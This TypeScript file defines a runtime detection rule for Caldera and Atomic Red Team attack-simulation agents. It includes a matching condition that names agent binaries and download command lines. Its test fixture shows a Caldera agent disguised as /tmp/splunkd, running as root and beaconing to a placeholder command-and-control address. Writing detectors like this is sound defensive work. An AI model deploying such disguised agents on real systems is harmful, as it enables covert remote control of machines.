import { defineDetection } from './define.ts';

export const attackSimulationAgent = defineDetection({
  name: 'Attack simulation agent',
  source: 'syscall',
  severity: 'MEDIUM',
  attack: [
    { id: 'T1059', name: 'Command and Scripting Interpreter' },
    { id: 'T1105', name: 'Ingress Tool Transfer' },
  ],
  description: 'An agent of a framework that simulates attacks, such as Caldera or Atomic Red Team, was started.',
  remediation: 'If no test was announced, isolate the pod: attackers use the same tools.',
  falsePositives: 'Announced tests.',
  references: ['https://caldera.mitre.org/'],
  condition:
    'starts and (proc.name in (sandcat, sandcat.go, splunkd-caldera, manx, ragdoll) or proc.cmdline contains anyof ("-group red -v", "/file/download -H platform", "/file/download -H file:sandcat", "file:sandcat.go", Invoke-AtomicTest))',
  output:
    'Attack simulation agent (command=%proc.cmdline parent=%proc.pname container=%container.id pod=%k8s.pod.uid user=%user.name)',
  fires: {
    'evt.type': 'execve',
    'proc.name': 'splunkd',
    'proc.exepath': '/tmp/splunkd',
    'proc.cmdline': '/tmp/splunkd -server http://203.0.113.7:8888 -group red -v',
    'proc.args': '-server http://203.0.113.7:8888 -group red -v',
    'proc.pname': 'sh',
    'evt.time': '2026-01-02T03:04:05.000000006Z',
    'container.id': '0123456789ab',
    'k8s.pod.uid': '3f2b8a52-7c1d-4a57-9f0a-0d6c2f1f9a10',
    'user.name': 'root',
  },
  nearMiss: {
    because: 'It is a forwarder of logs.',
    change: {
      'proc.name': 'splunkd',
      'proc.exepath': '/usr/bin/splunkd',
      'proc.cmdline': 'splunkd -p 8089 start',
      'proc.args': '-p 8089 start',
    },
  },
});
